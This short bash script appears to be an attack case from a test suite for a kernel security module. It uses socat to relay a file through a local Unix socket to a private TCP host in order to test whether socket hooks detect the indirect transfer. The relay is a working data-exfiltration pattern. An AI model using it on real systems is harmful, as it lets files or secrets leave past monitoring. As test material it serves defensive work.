#!/usr/bin/env bash
# technique: a clean socat, started beforehand, relays a local socket to the private host
# hooks: unix_stream_connect, socket_recvmsg, socket_sendmsg
# sink: private-tcp

. attack.sh
timeout 7 socat -u "UNIX-LISTEN:$ROOM/way" "TCP:$PRIVATE_HOST:$PORT_TCP" &
until_true test -S "$ROOM/way"
timeout 6 socat -u "OPEN:$SCAN" "UNIX-CONNECT:$ROOM/way"
wait
